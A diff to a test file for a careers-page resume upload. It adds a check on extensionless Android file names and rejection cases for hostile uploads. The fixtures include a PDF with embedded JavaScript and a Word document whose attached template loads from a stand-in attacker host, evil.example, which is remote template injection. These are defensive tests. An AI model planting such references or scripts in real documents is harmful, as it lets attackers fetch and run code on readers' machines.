@@ -1,5 +1,6 @@
 import { describe, expect, test } from "vitest";
 import { openSite, textOf, tokenOf } from "../support/site";
+import { zip } from "../unit/files/containers";
 
 describe("career", () => {
   const pdf = new Blob([`%PDF-1.4\n${"1 0 obj <<>> endobj\n".repeat(20)}trailer\n%%EOF\n`]);
@@ -51,6 +52,20 @@ describe("career", () => {
     expect((await clerk.visit(path)).status).toBe(404);
   });
 
+  test.each(["DOC-20261125-WA0003.", "DOC-20261125-WA0003"])(
+    "a resume that Android calls %s is taken by its content",
+    async (name) => {
+      const site = await openSite();
+      expect((await site.visitor().visit("/career", withFile(pdf, name))).status).toBe(303);
+      const row = await site.db.selectFrom("resumes").selectAll().executeTakeFirstOrThrow();
+      expect(row).toMatchObject({
+        original_name: "DOC-20261125-WA0003.pdf",
+        file_type: "application/pdf",
+        file_name: expect.stringMatching(/\.pdf$/),
+      });
+    },
+  );
+
   test.each([
     ["no file", undefined, "", "Please select a file first."],
     [
@@ -58,6 +73,21 @@ describe("career", () => {
       new Blob(["%PDF-1.4\n1 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj\ntrailer\n%%EOF\n"]),
       "cv.pdf",
       "This PDF contains a program, not only pages. Please print it to a new PDF and send that.",
+    ],
+    [
+      "a Word document whose template is elsewhere",
+      new Blob([
+        new Uint8Array(
+          zip({
+            "[Content_Types].xml": "<Types/>",
+            "word/document.xml": "<w:document/>",
+            "word/_rels/settings.xml.rels":
+              '<Relationship Type="…/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>',
+          }),
+        ),
+      ]),
+      "cv.docx",
+      "loads something from another computer",
     ],
     ["another kind", new Blob(["hello"]), "cv.txt", "whose name ends"],
     ["a disguised file", new Blob(["<html></html>"]), "cv.pdf", "PDF"],
